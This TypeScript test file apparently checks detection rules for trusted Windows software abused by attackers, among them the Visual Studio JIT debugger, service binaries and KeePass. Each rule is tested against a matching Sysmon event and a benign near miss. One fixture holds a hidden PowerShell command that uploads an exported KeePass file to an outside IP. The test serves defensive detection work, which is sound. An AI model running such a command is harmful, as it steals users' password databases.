// Built-in rules for trusted third-party software turned against the host (signed debuggers launching payloads, vendor
// service programs swapped for implants, password managers made to export their database): each rule fires on the event
// it is written for, as Sysmon writes it, with its level and a tactic of what the event shows, and a benign near miss of
// the same event type does not fire it.
import { describeCatalogue, file, proc, PS, S32, CMD, type CatalogueCase } from './builtin.fixture.js';

const VSJIT = `${S32}vsjitdebugger.exe`;
const SERVICES = `${S32}services.exe`;
const KEEPASS = 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe';
const KEEPASS_CONFIG = 'C:\\Users\\bob\\AppData\\Roaming\\KeePass\\KeePass.config.xml';
const noVersion = { Company: '-', Description: '-', Product: '-', OriginalFileName: '-', User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' };
const epson = { Company: 'Seiko Epson Corporation', Description: 'Epson Scanner Service', Product: 'EPSON Scan', OriginalFileName: 'EscSvc64.exe', User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' };

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Program Started By The Visual Studio Just-In-Time Debugger', 'medium', 'execution',
    proc('C:\\Users\\Public\\Documents\\perfmon_helper.exe', 'C:\\Users\\Public\\Documents\\perfmon_helper.exe', VSJIT),
    proc('C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe', '"devenv.exe" /JITDebug', VSJIT)],
  ['Service Program In The Windows System Folder Without Version Information', 'medium', 'persistence',
    proc(`${S32}EscSvc64.exe`, `${S32}EscSvc64.exe`, SERVICES, noVersion),
    proc(`${S32}EscSvc64.exe`, `${S32}EscSvc64.exe`, SERVICES, epson)],
  ['Service Program In The Windows System Folder Without Version Information', 'medium', 'privilege-escalation',
    proc(`${S32}EscSvc64.exe`, `${S32}EscSvc64.exe`, SERVICES, noVersion),
    proc(`${S32}svchost.exe`, `${S32}svchost.exe -k netsvcs -p -s BITS`, SERVICES, noVersion)],
  ['KeePass Configuration File Written By Another Program', 'medium', 'credential-access',
    file(KEEPASS_CONFIG, PS), file(KEEPASS_CONFIG, KEEPASS)],
  ['Password Manager Starts A Shell Or Script Host', 'medium', 'credential-access',
    proc(PS, 'powershell.exe -ex bypass -noprofile -w hidden -c "Invoke-WebRequest -Uri https://203.0.113.9/u -Method POST -InFile C:\\Users\\bob\\AppData\\Local\\Temp\\kp.xml"', KEEPASS),
    proc(PS, 'powershell.exe -NoProfile -File C:\\Scripts\\sync.ps1', CMD)],
];

describeCatalogue('built-in rules for trusted third-party software turned against the host', cases);
